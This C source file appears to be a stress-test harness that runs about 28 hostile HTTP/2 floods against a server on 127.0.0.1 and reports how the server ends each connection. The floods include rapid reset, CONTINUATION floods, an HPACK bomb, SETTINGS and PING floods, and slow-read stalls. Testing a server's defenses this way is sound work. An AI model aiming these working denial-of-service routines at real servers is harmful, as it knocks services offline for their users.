// Hostile clients of HTTP/2 (prior knowledge), from one epoll loop: each sends as fast as the other side takes it, and comes back
// when it is thrown out. Source addresses are 127.0.FIRST.1, 127.0.FIRST.2 …
//
//   flood-h2 KIND PORT FIRST SOURCES CONNECTIONS SECONDS
//
// Prints one line of JSON: connections opened, how they ended (`goaway`: by code; `closed` and `reset`: without one; `open`: not
// at all), streams that the server reset (by code), answers, and frames sent.

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION };
enum { END_STREAM = 1, ACK = 1, END_HEADERS = 4 };
enum { batch = 32768, most_connections = 20000, codes = 14 };

struct text { uint8_t *bytes; size_t size, room; };

struct client {
    int fd;
    uint32_t stream;      // the next new one
    uint32_t turn;        // of the class, for its own use
    struct text out;
    size_t sent;          // of `out`
    uint8_t head[17];     // of the frame that is being read, and what a GOAWAY or RST_STREAM says
    uint32_t have, left;
    int told;             // code of the GOAWAY that came; -1
    int must_acknowledge;
};

struct flood {
    const char *name;
    void (*fill)(struct client *);   // appends what is sent next; nothing: it waits
    double pace;                     // seconds between two fills of a connection; 0: as fast as it can
    int reads;                       // 0: nothing that comes is read
    uint32_t window;                 // SETTINGS_INITIAL_WINDOW_SIZE
    int preface;                     // 0: the class sends its own
};

static const struct flood *flood;
static struct client clients[most_connections];
static int port, first, sources, wanted, poll_fd;
static uint32_t next_source;
static uint64_t opened, closed, reset, frames, answers, goaways[codes + 1], resets[codes + 1];

static void put(struct text *text, const void *bytes, size_t size) {
    if (text->size + size > text->room) {
        text->room = 2 * (text->size + size) + 256;
        text->bytes = realloc(text->bytes, text->room);
        if (!text->bytes) exit(1);
    }
    memcpy(text->bytes + text->size, bytes, size);
    text->size += size;
}

static void put32(struct text *text, uint32_t value) {
    uint32_t big = htonl(value);
    put(text, &big, 4);
}

static void frame(struct client *client, int type, int flags, uint32_t stream, const void *payload, size_t size) {
    uint8_t head[9] = {(uint8_t)(size >> 16), (uint8_t)(size >> 8), (uint8_t)size, (uint8_t)type, (uint8_t)flags};
    uint32_t big = htonl(stream);
    memcpy(head + 5, &big, 4);
    put(&client->out, head, 9);
    if (size) put(&client->out, payload, size);
    frames++;
}

static void word(struct client *client, int type, uint32_t stream, uint32_t value) {
    uint32_t big = htonl(value);
    frame(client, type, 0, stream, &big, 4);
}

// The pseudo-fields of a request: literals that are not indexed.
static void pseudo(struct text *block, int is_post, const char *path) {
    put(block, is_post ? "\x83\x86\x01\x0a" "flood.test\x04" : "\x82\x86\x01\x0a" "flood.test\x04", 15);
    uint8_t size = (uint8_t)strlen(path);
    put(block, &size, 1);
    put(block, path, size);
}

// Opens a stream with this request and what else stands in the block.
static uint32_t request(struct client *client, int flags, const char *path, const struct text *more) {
    static struct text block;
    block.size = 0;
    pseudo(&block, !(flags & END_STREAM), path);
    if (more) put(&block, more->bytes, more->size);
    uint32_t stream = client->stream;
    client->stream += 2;
    int type = HEADERS;
    for (size_t at = 0; at < block.size; at += 16384, type = CONTINUATION) {
        size_t count = block.size - at < 16384 ? block.size - at : 16384;
        int last = at + count == block.size ? END_HEADERS : 0;
        frame(client, type, last | (type == HEADERS ? flags & END_STREAM : 0), stream, block.bytes + at, count);
    }
    return stream;
}

// Whether there is room for more in this batch.
static int more(const struct client *client) { return client->out.size < batch; }

static void rapid_reset(struct client *client) {
    while (more(client)) word(client, RST_STREAM, request(client, END_STREAM, "/item", NULL), 8);
}

static void made_zero(struct client *client) {
    while (more(client)) word(client, WINDOW_UPDATE, request(client, 0, "/silent", NULL), 0);
}

static void made_over(struct client *client) {
    while (more(client)) word(client, WINDOW_UPDATE, request(client, 0, "/silent", NULL), 0x7FFFFFFF);
}

static void made_data(struct client *client) {
    while (more(client)) frame(client, DATA, 0, request(client, END_STREAM, "/silent", NULL), "more", 4);
}

static void made_priority(struct client *client) {
    while (more(client)) frame(client, PRIORITY, 0, request(client, 0, "/silent", NULL), "\0\0\0\0", 4);
}

static void continuations(struct client *client) {
    if (client->turn++ == 0) frame(client, HEADERS, END_STREAM, 1, "\x82", 1);
    while (more(client)) frame(client, CONTINUATION, 0, 1, "\x86", 1);
}

static void endless_head(struct client *client) {
    static struct text line;
    if (line.size == 0) {
        put(&line, "\0\001x\x7f\xfb\x7e", 6);   // x: 16,384 bytes less those before them
        for (int i = 6; i < 16384; i++) put(&line, "a", 1);
    }
    if (client->turn++ == 0) frame(client, HEADERS, END_STREAM, 1, "\x82", 1);
    while (more(client)) frame(client, CONTINUATION, 0, 1, line.bytes, line.size);
}

// A value of 4,000 bytes in the table, named 12,000 times in each block.
static void bomb(struct client *client) {
    static struct text line, names;
    if (line.size == 0) {
        put(&line, "\x40\001x\x7f\xa1\x1e", 6);
        for (int i = 0; i < 4000; i++) put(&line, "a", 1);
        for (int i = 0; i < 12000; i++) put(&names, "\xbe", 1);
        put(&line, names.bytes, names.size);
    }
    request(client, END_STREAM, "/item", client->turn++ == 0 ? &line : &names);
}

static void crumbs(struct client *client) {
    static struct text line;
    for (int i = 0; line.size < 16000 && i < 16000; i++) put(&line, "\x0f\x11\x01" "a", 4);   // cookie: a
    request(client, END_STREAM, "/item", &line);
}

static void fields(struct client *client) {
    static struct text line;
    for (int i = 0; i < 400 && line.size < 400 * 10; i++) {
        char one[16];
        snprintf(one, sizeof one, "x%04d", i);
        put(&line, "\0\005", 2);
        put(&line, one, 5);
        put(&line, "\002ab", 3);
    }
    while (more(client)) request(client, END_STREAM, "/item", &line);
}

static void large_heads(struct client *client) {
    static struct text line;
    for (int i = 0; line.size < 60000; i++) {
        put(&line, "\0\001y\x7f\xe9\x06", 6);   // y: 1,000 bytes
        for (int k = 0; k < 1000; k++) put(&line, "b", 1);
    }
    request(client, END_STREAM, "/item", &line);
}

static void pings(struct client *client) {
    while (more(client)) frame(client, PING, 0, 0, "12345678", 8);
}

static void settings(struct client *client) {
    while (more(client)) frame(client, SETTINGS, 0, 0, NULL, 0);
}

// Each as large as may be: the table and all windows change 2,700 times.
static void long_settings(struct client *client) {
    static struct text values;
    for (uint32_t i = 0; values.size < 16380; i++) {
        put(&values, i & 1 ? "\0\4" : "\0\1", 2);
        put32(&values, i & 2 ? 4096 : 0);
    }
    if (client->turn++ == 0)
        for (int i = 0; i < 50; i++) request(client, 0, "/silent", NULL);
    while (more(client)) frame(client, SETTINGS, 0, 0, values.bytes, values.size);
}

static void empty_data(struct client *client) {
    if (client->turn++ == 0) request(client, 0, "/silent", NULL);
    while (more(client)) frame(client, DATA, 0, 1, NULL, 0);
}

static void empty_heads(struct client *client) {
    if (client->turn++ == 0) frame(client, HEADERS, 0, 1, NULL, 0);
    while (more(client)) frame(client, CONTINUATION, 0, 1, NULL, 0);
}

static void priorities(struct client *client) {
    while (more(client)) {
        frame(client, PRIORITY, 0, client->stream, "\0\0\0\0\x10", 5);
        client->stream += 2;
    }
}

static void window_updates(struct client *client) {
    if (client->turn++ == 0) request(client, 0, "/silent", NULL);
    while (more(client)) word(client, WINDOW_UPDATE, 1, 1);
}

static void unknown(struct client *client) {
    while (more(client)) frame(client, 0x77, 0xFF, 0, "what is this", 12);
}

static void orphans(struct client *client) {
    if (client->turn++ == 0) word(client, RST_STREAM, request(client, END_STREAM, "/item", NULL), 8);
    while (more(client)) frame(client, DATA, 0, 1, "x", 1);
}

// As many streams as the server allows by default, for answers without end.
static void many_large(struct client *client) {
    if (client->turn++ == 0)
        for (int i = 0; i < 100; i++) request(client, END_STREAM, "/large", NULL);
}

static void dribble(struct client *client) {
    if (client->turn == 0) many_large(client);
    else
        for (uint32_t stream = 1; stream < client->stream; stream += 2) word(client, WINDOW_UPDATE, stream, 1);
    client->turn++;
}

static void silent_uploads(struct client *client) {
    if (client->turn++ == 0)
        for (int i = 0; i < 100; i++) request(client, 0, "/silent", NULL);
}

static void nothing(struct client *client) { (void)client; }

static void slow_preface(struct client *client) {
    static const char bytes[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\6\4\0\0\0\0\0\0\3\0\0\0\1";
    if (client->turn < sizeof bytes - 1) put(&client->out, bytes + client->turn++, 1);
}

// A frame that never comes to its end.
static void half_frames(struct client *client) {
    if (client->turn++ == 0) {
        request(client, 0, "/silent", NULL);
        put(&client->out, "\0\x40\0\0\0\0\0\0\1", 9);
    }
    put(&client->out, "x", 1);
}

static const struct flood floods[] = {
    {"rapid-reset", rapid_reset, 0, 1, 65535, 1},
    {"made-zero", made_zero, 0, 1, 65535, 1},
    {"made-over", made_over, 0, 1, 65535, 1},
    {"made-data", made_data, 0, 1, 65535, 1},
    {"made-priority", made_priority, 0, 1, 65535, 1},
    {"continuations", continuations, 0, 1, 65535, 1},
    {"endless-head", endless_head, 0, 1, 65535, 1},
    {"bomb", bomb, 0, 1, 65535, 1},
    {"crumbs", crumbs, 0, 1, 65535, 1},
    {"fields", fields, 0, 1, 65535, 1},
    {"large-heads", large_heads, 0, 1, 65535, 1},
    {"pings", pings, 0, 1, 65535, 1},
    {"settings", settings, 0, 1, 65535, 1},
    {"long-settings", long_settings, 0, 1, 65535, 1},
    {"empty-data", empty_data, 0, 1, 65535, 1},
    {"empty-heads", empty_heads, 0, 1, 65535, 1},
    {"priorities", priorities, 0, 1, 65535, 1},
    {"window-updates", window_updates, 0, 1, 65535, 1},
    {"unknown", unknown, 0, 1, 65535, 1},
    {"orphans", orphans, 0, 1, 65535, 1},
    {"unread-pings", pings, 0, 0, 65535, 1},
    {"unread-answers", many_large, 0, 0, 0x7FFFFFFF, 1},
    {"no-window", many_large, 0, 1, 0, 1},
    {"dribble", dribble, 0.1, 1, 0, 1},
    {"silent-uploads", silent_uploads, 0, 1, 65535, 1},
    {"idle", nothing, 0, 1, 65535, 1},
    {"slow-preface", slow_preface, 1, 1, 65535, 0},
    {"half-frames", half_frames, 1, 1, 65535, 1},
};

// Whether a frame or a head is not at its end, so that nothing may stand between.
static int is_inside(const struct client *client) {
    return client->turn > 0 && (flood->fill == continuations || flood->fill == endless_head || flood->fill == empty_heads || flood->fill == half_frames);
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void open_one(uint32_t index) {
    struct client *client = &clients[index];
    client->fd = -1;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0) return;
    int one = 1, small = 4096;
    setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    if (!flood->reads) setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    uint32_t source = next_source++ % (uint32_t)sources;
    struct sockaddr_in from = {.sin_family = AF_INET}, to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    from.sin_addr.s_addr = htonl(0x7F000000u | (uint32_t)(first + (int)(source / 250)) << 8 | (source % 250 + 1));
    to.sin_addr.s_addr = htonl(0x7F000001u);
    if (bind(fd, (struct sockaddr *)&from, sizeof from) < 0 ||
        (connect(fd, (struct sockaddr *)&to, sizeof to) < 0 && errno != EINPROGRESS)) {
        close(fd);
        return;
    }
    struct epoll_event event = {.events = EPOLLIN | EPOLLOUT, .data.u32 = index};
    epoll_ctl(poll_fd, EPOLL_CTL_ADD, fd, &event);
    struct text out = client->out;
    out.size = 0;
    *client = (struct client){.fd = fd, .stream = 1, .out = out, .told = -1};
    opened++;
    if (!flood->preface) return;
    put(&client->out, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    uint8_t values[6] = {0, 4};
    uint32_t window = htonl(flood->window);
    memcpy(values + 2, &window, 4);
    frame(client, SETTINGS, 0, 0, values, 6);
    if (flood->window > 65535) word(client, WINDOW_UPDATE, 0, 0x7FFFFFFF - 65535);
}

static void close_one(struct client *client, int was_reset) {
    if (client->told >= 0) goaways[client->told]++;
    else if (was_reset) reset++;
    else closed++;
    close(client->fd);
    client->fd = -1;
}

static void end_of_frame(struct client *client) {
    int type = client->head[3];
    uint32_t said = 0;
    if (type == GOAWAY) memcpy(&said, client->head + 13, 4);
    if (type == RST_STREAM) memcpy(&said, client->head + 9, 4);
    said = ntohl(said);
    if (said > codes) said = codes;
    if (type == GOAWAY) client->told = (int)said;
    if (type == RST_STREAM) resets[said]++;
    if (type == HEADERS) answers++;
    if (type == SETTINGS && !(client->head[4] & ACK)) client->must_acknowledge = 1;
}

// Heads of frames; their content only as far as an error code stands there.
static void take(struct client *client, const uint8_t *bytes, size_t size) {
    for (size_t at = 0; at < size;) {
        if (client->have < 9) {
            client->head[client->have++] = bytes[at++];
            if (client->have < 9) continue;
            client->left = (uint32_t)client->head[0] << 16 | (uint32_t)client->head[1] << 8 | client->head[2];
        } else {
            size_t count = size - at < client->left ? size - at : client->left;
            for (size_t i = 0; i < count && client->have < sizeof client->head; i++) client->head[client->have++] = bytes[at + i];
            client->left -= (uint32_t)count;
            at += count;
        }
        if (client->left > 0) continue;
        end_of_frame(client);
        client->have = 0;
    }
}

// 0: the connection has ended.
static int receive(struct client *client) {
    static uint8_t scratch[65536];
    for (int i = 0; i < 4; i++) {
        ssize_t n = recv(client->fd, scratch, sizeof scratch, MSG_DONTWAIT);
        if (n > 0) {
            take(client, scratch, (size_t)n);
            continue;
        }
        if (n < 0 && errno == EAGAIN) return 1;
        close_one(client, n < 0);
        return 0;
    }
    return 1;
}

static void transmit(struct client *client) {
    ssize_t n = send(client->fd, client->out.bytes + client->sent, client->out.size - client->sent, MSG_NOSIGNAL | MSG_DONTWAIT);
    if (n < 0 && errno != EAGAIN) {
        // What the server said last may be here still.
        if (!flood->reads || receive(client)) close_one(client, 1);
        return;
    }
    if (n > 0) client->sent += (size_t)n;
    if (client->sent < client->out.size) return;
    client->out.size = client->sent = 0;
    if (client->must_acknowledge && !is_inside(client)) {
        client->must_acknowledge = 0;
        frame(client, SETTINGS, ACK, 0, NULL, 0);
    }
}

static void on_event(struct epoll_event *event, int is_paced) {
    uint32_t index = event->data.u32;
    struct client *client = &clients[index];
    if (client->fd < 0) return;
    if (flood->reads && (event->events & (EPOLLIN | EPOLLERR | EPOLLHUP)) && !receive(client)) return;
    if (!flood->reads && (event->events & (EPOLLERR | EPOLLHUP))) {
        close_one(client, 1);
        return;
    }
    if (!(event->events & EPOLLOUT)) return;
    // Behind a GOAWAY there is nothing more to win.
    if (client->out.size == 0 && !is_paced && client->told < 0 && client->stream < 0x7F000000) flood->fill(client);
    if (client->out.size > 0) {
        transmit(client);
        return;
    }
    struct epoll_event change = {.events = flood->reads ? EPOLLIN : 0, .data.u32 = index};
    epoll_ctl(poll_fd, EPOLL_CTL_MOD, client->fd, &change);
}

static void fill_paced(uint32_t index) {
    struct client *client = &clients[index];
    if (client->fd < 0 || client->out.size > 0 || client->told >= 0) return;
    flood->fill(client);
    struct epoll_event change = {.events = EPOLLIN | EPOLLOUT, .data.u32 = index};
    epoll_ctl(poll_fd, EPOLL_CTL_MOD, client->fd, &change);
}

static void print_codes(const char *name, const uint64_t *counts) {
    printf(", \"%s\": {", name);
    const char *comma = "";
    for (int i = 0; i <= codes; i++) {
        if (counts[i] == 0) continue;
        printf("%s\"%d\": %lu", comma, i, (unsigned long)counts[i]);
        comma = ", ";
    }
    printf("}");
}

int main(int count, char **arguments) {
    if (count != 7) return 2;
    for (size_t i = 0; i < sizeof floods / sizeof *floods; i++)
        if (!strcmp(floods[i].name, arguments[1])) flood = &floods[i];
    if (!flood) return 2;
    port = atoi(arguments[2]);
    first = atoi(arguments[3]);
    sources = atoi(arguments[4]);
    wanted = atoi(arguments[5]);
    double seconds = atof(arguments[6]);
    if (wanted > most_connections) wanted = most_connections;
    struct rlimit files;
    getrlimit(RLIMIT_NOFILE, &files);
    files.rlim_cur = files.rlim_max;
    setrlimit(RLIMIT_NOFILE, &files);
    static struct epoll_event events[1024];
    poll_fd = epoll_create1(0);
    for (int i = 0; i < most_connections; i++) clients[i].fd = -1;
    double start = now(), end = start + seconds;
    uint64_t paced = 0;
    for (uint32_t turn = 0; now() < end; turn++) {
        // Those who were thrown out come back, some at a time.
        for (int i = 0, tries = 0; i < wanted && tries < 50; i++, turn++) {
            if (clients[turn % (uint32_t)wanted].fd >= 0) continue;
            open_one(turn % (uint32_t)wanted);
            tries++;
        }
        int n = epoll_wait(poll_fd, events, 1024, 1);
        for (int i = 0; i < n; i++) on_event(&events[i], flood->pace > 0);
        if (flood->pace > 0) {
            uint64_t due = (uint64_t)((now() - start) / flood->pace * wanted);
            for (int burst = 0; paced < due && burst < 1000; burst++) fill_paced((uint32_t)(paced++ % (uint64_t)wanted));
        }
    }
    uint64_t open = 0;
    for (int i = 0; i < wanted; i++) {
        if (clients[i].fd < 0) continue;
        if (flood->reads && !receive(&clients[i])) continue;
        if (clients[i].told >= 0) goaways[clients[i].told]++;
        else open++;
    }
    printf("{\"opened\": %lu, \"open\": %lu, \"closed\": %lu, \"reset\": %lu, \"answers\": %lu, \"frames\": %lu", (unsigned long)opened,
           (unsigned long)open, (unsigned long)closed, (unsigned long)reset, (unsigned long)answers, (unsigned long)frames);
    print_codes("goaway", goaways);
    print_codes("resets", resets);
    printf("}\n");
    return 0;
}
